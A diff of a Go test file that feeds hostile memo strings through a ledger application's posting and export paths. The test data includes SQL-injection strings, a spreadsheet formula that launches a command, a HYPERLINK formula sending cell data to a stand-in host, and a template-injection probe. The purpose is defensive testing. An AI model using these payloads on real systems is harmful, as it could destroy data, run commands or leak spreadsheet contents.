@@ -81,13 +81,15 @@ func (h *judge) held(export map[string]any) {
 }
 
 // TestGroupGOfExports tries texts that some reader would take for commands, by the numbers of the project's list of them, as filters,
-// as names and as what is exported. Not here: G03 and G06, since no filter searches in texts; G07 to G10 and G24, which are of pages;
-// G22, which is of the log of all requests; G23, which is of bank files.
+// as names and as what is exported. No filter searches in texts; prefixes of accounts are G06 (ledger/balances_test.go). Texts that stay
+// text are also G03 (bad_inputs_test.go), and in pages G07 and G08 (console/access_test.go, console/approvals_test.go) and G09
+// (docs/markdown_test.go); the cells of all formats are G11 to G19, and names of files G20 and G21 (ledger/tabular/csv_test.go); lines of the
+// log are G22 (cmd/mizan/log_lines_test.go). G23 is of bank files and G24 of printed statements.
 func TestGroupGOfExports(t *testing.T) {
 	t.Parallel()
 	h := open(t)
 	texts := map[string]string{
-		"G01": `'; DROP TABLE entry;--`, "G02": `' OR 1=1--`, "G11": `=cmd|'/c calc'!A1`, "G12": `+1+1`, "G13": `-2+3`, "G15": `@SUM(A1)`, "G17": `=HYPERLINK("http://x?"&A1)`, "G18": `a "quoted", comma`, "G19": `a;b`,
+		"G01": `'; DROP TABLE entry;--`, "G02": `' OR 1=1--`, "G10": `{{7*7}}${7*7}`, "G11": `=cmd|'/c calc'!A1`, "G12": `+1+1`, "G13": `-2+3`, "G15": `@SUM(A1)`, "G17": `=HYPERLINK("http://x?"&A1)`, "G18": `a "quoted", comma`, "G19": `a;b`,
 	}
 	for number, text := range texts {
 		h.must(201, "POST", posting, strings.Replace(strings.Replace(sale("r-"+number, "1.00"), `"subject"`, `"memo":`+strconv.Quote(text)+`,"subject"`, 1), "order.captured", "order.captured", 1))
